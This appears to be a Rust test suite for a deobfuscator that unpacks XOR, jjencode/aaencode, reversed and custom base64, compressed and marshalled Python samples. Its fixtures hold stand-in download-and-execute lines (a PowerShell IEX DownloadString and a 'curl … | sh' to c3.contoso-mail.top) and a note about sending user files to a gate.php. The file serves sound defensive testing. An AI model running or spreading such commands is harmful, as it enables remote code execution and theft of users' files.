//! Which layers a sample is told to have: their techniques and languages, and what comes out of them.

use deobfuscator::Deobfuscator;
use module_kit::{Call, Module};
use serde_json::{Value, json};

const COMMAND: &str = "IEX (New-Object Net.WebClient).DownloadString('http://c3.contoso-mail.top/a.ps1')";
const PROGRAM: &str = "import os\nos.system('curl http://c3.contoso-mail.top/p | sh')\n";

fn analyze(sample: impl AsRef<[u8]>, name: &str) -> Value {
    let sample = sample.as_ref();
    let info = json!({"size": sample.len(), "name": name});
    let call = Call::parse(&json!({"function": "analyze", "sample": info}).to_string()).expect("a call");
    serde_json::to_value(Deobfuscator::analyze(&call, Some(sample)).expect("an answer")).expect("JSON")
}

/// Technique and content of each layer.
fn layers(sample: impl AsRef<[u8]>, name: &str) -> Vec<(String, String)> {
    let output = analyze(sample, name);
    let told = |layer: &Value, what: &str| layer[what].as_str().unwrap_or_default().to_owned();
    let layers = output["data"]["layers"].as_array().expect("layers");
    layers.iter().map(|layer| (told(layer, "technique"), told(layer, "after"))).collect()
}

/// The techniques, and the content of the last layer.
fn peeled(sample: impl AsRef<[u8]>, name: &str) -> (Vec<String>, String) {
    let layers = layers(sample, name);
    let last = layers.last().map(|layer| layer.1.clone()).unwrap_or_default();
    (layers.into_iter().map(|layer| layer.0).collect(), last)
}

/// Numbers of bytes under a key of one byte.
fn locked(text: &str, key: u8) -> String {
    text.bytes().map(|byte| (byte ^ key).to_string()).collect::<Vec<_>>().join(", ")
}

#[test]
fn encrypted_numbers_are_no_layer_beside_what_they_are_decrypted_to() {
    let numbers = locked(COMMAND, 0x23);
    for script in [
        format!("$d=[byte[]]({numbers})|%{{$_ -bxor 0x23}}\nIEX ([Text.Encoding]::ASCII.GetString($d))\n"),
        format!("$b=@({numbers}); IEX (($b | %{{[char]($_ -bxor 0x23)}}) -join '')\n"),
    ] {
        let layers = layers(&script, "a.ps1");
        assert!(layers.iter().any(|layer| layer.1 == COMMAND), "{layers:?}");
        assert!(layers.iter().all(|layer| layer.1.contains(COMMAND) || layer.1.contains("IEX")), "{layers:?}");
    }
    let numbers = locked(PROGRAM, 35);
    for script in [
        format!("k=35\nd=[{numbers}]\nexec(''.join(chr(c^k) for c in d))\n"),
        format!("d=[{numbers}]\nexec(b'# \\n' + bytes(b ^ 35 for b in d) + b'\\n#')\n"),
    ] {
        let (techniques, last) = peeled(&script, "a.py");
        assert_eq!(techniques, ["eval"], "{script}");
        assert!(last.contains(PROGRAM.trim()), "{last}");
    }
    // Where nothing else shows it, the key is found, and the bytes between are on the way to it.
    let (techniques, last) = peeled(format!("x(d=[{numbers}])\nimport os\n"), "a.py");
    assert_eq!((techniques, last), (vec!["charcode".to_owned(), "xor".to_owned()], PROGRAM.to_owned()));
}

/// Writes a script in signs as jjencode does: `alert(1)`.
const IN_SIGNS: &str = r#"$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[$],_$$:++$,$$$_:(!""+"")[$],$__:++$,$_$:++$,$$__:({}+"")[$],$$_:++$,$$$:++$,$___:++$,$__$:++$};$.$_=($.$_=$+"")[$.$_$]+($._$=$.$_[$.__$])+($.$$=($.$+"")[$.__$])+((!$)+"")[$._$$]+($.__=$.$_[$.$$_])+($.$=(!""+"")[$.__$])+($._=(!""+"")[$._$_])+$.$_[$.$_$]+$.__+$._$+$.$;$.$$=$.$+(!""+"")[$._$$]+$.__+$._+$.$+$.$$;$.$=($.___)[$.$_][$.$_];$.$($.$($.$$+"\""+$.$_$_+(![]+"")[$._$_]+$.$$$_+"\\"+$.__$+$.$$_+$._$_+$.__+"("+$.__$+")"+"\"")())();"#;
/// The same in faces, as aaencode does.
const IN_FACES: &str = r#"ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_']; o=(ﾟｰﾟ)  =_=3; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ); (ﾟДﾟ) =(ﾟΘﾟ)= (o^_^o)/ (o^_^o);(ﾟДﾟ)={ﾟΘﾟ: '_' ,ﾟωﾟﾉ : ((ﾟωﾟﾉ==3) +'_') [ﾟΘﾟ] ,ﾟｰﾟﾉ :(ﾟωﾟﾉ+ '_')[o^_^o -(ﾟΘﾟ)] ,ﾟДﾟﾉ:((ﾟｰﾟ==3) +'_')[ﾟｰﾟ] }; (ﾟДﾟ) [ﾟΘﾟ] =((ﾟωﾟﾉ==3) +'_') [c^_^o];(ﾟДﾟ) ['c'] = ((ﾟДﾟ)+'_') [ (ﾟｰﾟ)+(ﾟｰﾟ)-(ﾟΘﾟ) ];(ﾟДﾟ) ['o'] = ((ﾟДﾟ)+'_') [ﾟΘﾟ];(ﾟoﾟ)=(ﾟДﾟ) ['c']+(ﾟДﾟ) ['o']+(ﾟωﾟﾉ +'_')[ﾟΘﾟ]+ ((ﾟωﾟﾉ==3) +'_') [ﾟｰﾟ] + ((ﾟДﾟ) +'_') [(ﾟｰﾟ)+(ﾟｰﾟ)]+ ((ﾟｰﾟ==3) +'_') [ﾟΘﾟ]+((ﾟｰﾟ==3) +'_') [(ﾟｰﾟ) - (ﾟΘﾟ)]+(ﾟДﾟ) ['c']+((ﾟДﾟ)+'_') [(ﾟｰﾟ)+(ﾟｰﾟ)]+ (ﾟДﾟ) ['o']+((ﾟｰﾟ==3) +'_') [ﾟΘﾟ];(ﾟДﾟ) ['_'] =(o^_^o) [ﾟoﾟ] [ﾟoﾟ];(ﾟεﾟ)=((ﾟｰﾟ==3) +'_') [ﾟΘﾟ]+ (ﾟДﾟ) .ﾟДﾟﾉ+((ﾟДﾟ)+'_') [(ﾟｰﾟ) + (ﾟｰﾟ)]+((ﾟｰﾟ==3) +'_') [o^_^o -ﾟΘﾟ]+((ﾟｰﾟ==3) +'_') [ﾟΘﾟ]+ (ﾟωﾟﾉ +'_') [ﾟΘﾟ]; (ﾟｰﾟ)+=(ﾟΘﾟ); (ﾟДﾟ)[ﾟεﾟ]='\\'; (ﾟДﾟ).ﾟΘﾟﾉ=(ﾟДﾟ+ ﾟｰﾟ)[o^_^o -(ﾟΘﾟ)];(oﾟｰﾟo)=(ﾟωﾟﾉ +'_')[c^_^o];(ﾟДﾟ) [ﾟoﾟ]='\"';(ﾟДﾟ) ['_'] ( (ﾟДﾟ) ['_'] (ﾟεﾟ+(ﾟДﾟ)[ﾟoﾟ]+ (ﾟДﾟ)[ﾟεﾟ]+(ﾟΘﾟ)+ (ﾟｰﾟ)+ (ﾟΘﾟ)+ (ﾟДﾟ)[ﾟεﾟ]+(ﾟΘﾟ)+ ((ﾟｰﾟ) + (ﾟΘﾟ))+ (ﾟｰﾟ)+ (ﾟДﾟ)[ﾟεﾟ]+(ﾟΘﾟ)+ (ﾟｰﾟ)+ ((ﾟｰﾟ) + (ﾟΘﾟ))+ (ﾟДﾟ)[ﾟεﾟ]+(ﾟΘﾟ)+ ((o^_^o) +(o^_^o))+ ((o^_^o) - (ﾟΘﾟ))+ (ﾟДﾟ)[ﾟεﾟ]+(ﾟΘﾟ)+ ((o^_^o) +(o^_^o))+ (ﾟｰﾟ)+ (ﾟДﾟ)[ﾟεﾟ]+((ﾟｰﾟ) + (ﾟΘﾟ))+ (c^_^o)+ (ﾟДﾟ)[ﾟεﾟ]+((o^_^o) +(o^_^o))+ (ﾟΘﾟ)+ (ﾟДﾟ)[ﾟεﾟ]+((ﾟｰﾟ) + (ﾟΘﾟ))+ (ﾟΘﾟ)+ (ﾟДﾟ)[ﾟoﾟ]) (ﾟΘﾟ)) ('_');"#;

#[test]
fn javascript_in_signs_is_told_without_its_name_and_undone() {
    let spaced = IN_SIGNS.replace(';', " ;\n").replace(',', " , ").replace('=', " = ");
    for script in [IN_SIGNS, &spaced, IN_FACES] {
        for name in ["", "a.txt", "a.js"] {
            let output = analyze(script, name);
            assert_eq!(output["data"]["language"], "javascript", "{name} {script:.40}");
            assert!(output["findings"].to_string().contains("symbol-encoded-script"), "{name} {script:.40}");
            assert_eq!(peeled(script, name).1, "alert(1)", "{name} {script:.40}");
        }
    }
}

#[test]
fn format_items_of_powershell_have_widths_and_forms() {
    for (expression, plain) in [
        ("'{0:X2}{1:x4}' -f 10,255", "0A00ff"),
        ("'{0:d3}|{1,5}|{1,-5}|' -f 7,'ab'", "007|   ab|ab   |"),
        ("'{0:X}{1:D2}{2:000}' -f -1,-7,42", "FFFFFFFF-07042"),
        ("'{0:X2}{{{1,3:x}}}' -f 'text',10", "text{  a}"),
    ] {
        let script =
            format!("iex ({expression}); Write-Host ('Invo'+'ke-Ex'+'pression'); Write-Host ('Down'+'loadString')\n");
        let layers = layers(&script, "a.ps1");
        assert!(layers.iter().any(|layer| layer == &("eval".to_owned(), plain.to_owned())), "{expression}: {layers:?}");
    }
}

const NOTE: &str =
    "Program: http://c3.contoso-mail.top/gate.php is where the client sends what the user has in C:\\Users";
const STANDARD: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// Base64 in an alphabet, without padding.
fn base64(text: &str, alphabet: &str) -> String {
    let letters = |group: &[u8]| {
        let bits = (0..3).fold(0, |bits, at| bits << 8 | usize::from(group.get(at).copied().unwrap_or(0)));
        let letter = |place: usize| char::from(alphabet.as_bytes()[bits >> (18 - 6 * place) & 63]);
        (0..=group.len()).map(letter).collect::<String>()
    };
    text.as_bytes().chunks(3).map(letters).collect()
}

fn turned(text: &str) -> String {
    text.chars().rev().collect()
}

#[test]
fn base64_that_was_turned_is_read_backwards() {
    let text = base64(NOTE, STANDARD);
    let url = text.replace('+', "-").replace('/', "_");
    let lines = turned(&text).as_bytes().chunks(64).map(String::from_utf8_lossy).collect::<Vec<_>>().join("\r\n");
    for data in [turned(&text), turned(&format!("{text}==")), format!("key {} end", turned(&url)), lines] {
        assert_eq!(peeled(&data, ""), (vec!["reverse-base64".to_owned()], NOTE.to_owned()), "{data}");
    }
    // What can be read as it stands is not turned, and what is noise either way is nothing.
    assert_eq!(peeled(&text, "").0, ["base64"]);
    let noise: Vec<u8> = (0..300_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 19).to_le_bytes()[0] & 127).collect();
    let noise: String = noise.iter().map(|byte| char::from(STANDARD.as_bytes()[usize::from(byte & 63)])).collect();
    assert_eq!(layers(turned(&noise), ""), []);
}

#[test]
fn data_in_an_alphabet_of_the_texts_own_is_decoded() {
    let mixed = turned(STANDARD);
    let signs = STANDARD.replace('A', "!").replace('b', "@").replace('+', ".").replace('/', "*");
    for own in [&mixed, &signs] {
        let data = base64(NOTE, own);
        let lines = data.as_bytes().chunks(64).map(String::from_utf8_lossy).collect::<Vec<_>>().join("\n");
        for text in [
            format!("{own}\n{data}\n"),
            format!("{own}\n{lines}\n"),
            format!("{lines}\n{own}\n"),
            format!("table: {own}\nA note.\n\nblob: {data}\n"),
            format!("t='{own}'\nd='{data}'\n"),
        ] {
            assert_eq!(peeled(&text, ""), (vec!["base64-custom".to_owned()], NOTE.to_owned()), "{text}");
        }
        // Other data in the same text is what it is, and a list of signs that nothing is written in decodes nothing.
        let both = format!("{own}\n{}\n\n{data}\n", base64(PROGRAM, STANDARD));
        let found = layers(&both, "");
        assert_eq!(
            found.iter().map(|layer| layer.0.as_str()).collect::<Vec<_>>(),
            ["base64", "base64-custom"],
            "{both}"
        );
        assert_eq!(found[0].1, PROGRAM);
        let text = format!("{own}\n{}\n", base64(PROGRAM, STANDARD));
        assert_eq!(peeled(&text, ""), (vec!["base64".to_owned()], PROGRAM.to_owned()), "{text}");
    }
}

/// `PROGRAM` as Python's bz2 and lzma pack it, lzma in either of its formats, and zlib without a header.
const BZIP2: &str = "QlpoOTFBWSZTWSrj2CYAAA3ZgAAQQOOIECpn3iQgAEGM1A9qTNMkek9QoAAAyZG3t3h2HlHuAqjEjJhY1w2Xd5t0gSgK3M0+LXiUKnc4PNtz/F3JFOFCQKuPYJg=";
const XZ: &str = "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQA9aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vYzMuY29udG9zby1tYWlsLnRvcC9wIHwgc2gnKQoAAAAipSPAEQ6tbQABVj5SUgYNH7bzfQEAAAAABFla";
const LZMA: &str =
    "XQAAgAD//////////wA0m0pnuFI8c+00V7hdggUY1ZAaipJaMDTdH1H7SUjr2Ka/8YXWmHmuG1yf0zOlcnOeln0l31Yh2fvK4lrF3yNoex/9jLjA";
const DEFLATE: &str = "y8wtyC8qUcgv5sov1iuuLC5JzdVQTy4tylHIKCkpsNLXTzbWS87PK8kvztfNTczM0SvJL9AvUKhRKM5Q1+QCAA==";
/// `print(1)`, compiled by Python 3.11.
const COMPILED: &str = "YwAAAAAAAAAAAAAAAAMAAAAAAAAA8xwAAACXAAIAZQBkAKYBAACrAQAAAAAAAAAAAQBkAVMAKQLpAQAAAE4pAdoFcHJpbnSpAPMAAAAA+gM8bT76CDxtb2R1bGU+cgYAAAABAAAAcxYAAADwAwEBAdgABYAFgGGBCIQIgAiACIAIcgQAAAA=";

#[test]
fn texts_that_python_puts_values_into_are_run() {
    for expression in [
        "'%s%s(%d)' % ('pr', 'int', 7)",
        "'pr%s(7)' % a",
        "'%c%c%s%02x7)' % (0x70, 114, 'int(', 0)",
        "'{}{}(7)'.format('pr', a)",
        "'{1}{0}({2:d})'.format(a, 'pr', 7)",
        "f'pr{a}({3+4})'",
        "F\"{'pr'}{a:s}\" '(7)'",
        "rf'{p[0]}{p[1]}{a}(7)'",
        "f'{p[0]}{p[1]}{\"int\"}({7:d})'",
    ] {
        let script = format!("import os\na = 'int'\np = 'pr'\nexec({expression})\n");
        let (techniques, last) = peeled(&script, "a.py");
        assert_eq!(
            (techniques.join(" "), last.replace("007", "7")),
            ("eval".into(), "print(7)".into()),
            "{expression}"
        );
    }
    for unknown in ["f'print({a()})'", "f'print({a!r})'", "f'print({b})'", "'%r' % 'print'", "'%s' % ['print(7)']"] {
        let script = format!("import os\na = 'int'\nexec({unknown})\n");
        assert_eq!(layers(&script, "a.py"), [], "{unknown}");
    }
}

#[test]
fn whatever_python_unpacks_is_unpacked() {
    for (call, data) in [
        ("bz2.decompress", BZIP2),
        ("__import__('bz2').decompress", BZIP2),
        ("lzma.decompress", XZ),
        ("lzma.decompress", LZMA),
        ("decompress", XZ),
        ("decompress", BZIP2),
    ] {
        let script = format!(
            "import base64, bz2, lzma\nfrom lzma import decompress\nexec({call}(base64.b64decode('{data}')))\n"
        );
        assert_eq!(peeled(&script, "a.py"), (vec!["eval".to_owned()], PROGRAM.to_owned()), "{call}");
    }
    let script = format!("import base64, zlib\nexec(zlib.decompress(base64.b64decode('{DEFLATE}'), -15))\n");
    assert_eq!(peeled(&script, "a.py"), (vec!["eval".to_owned()], PROGRAM.to_owned()));
}

#[test]
fn compiled_python_is_told_with_its_version() {
    let script = format!("import base64, marshal\nexec(marshal.loads(base64.b64decode('{COMPILED}')))\n");
    assert_eq!(peeled(&script, "a.py").0, ["marshal"]);
    let findings = analyze(&script, "a.py")["findings"].to_string();
    assert!(findings.contains("A code object of Python 3.11 or 3.12 in marshal format"), "{findings}");
}
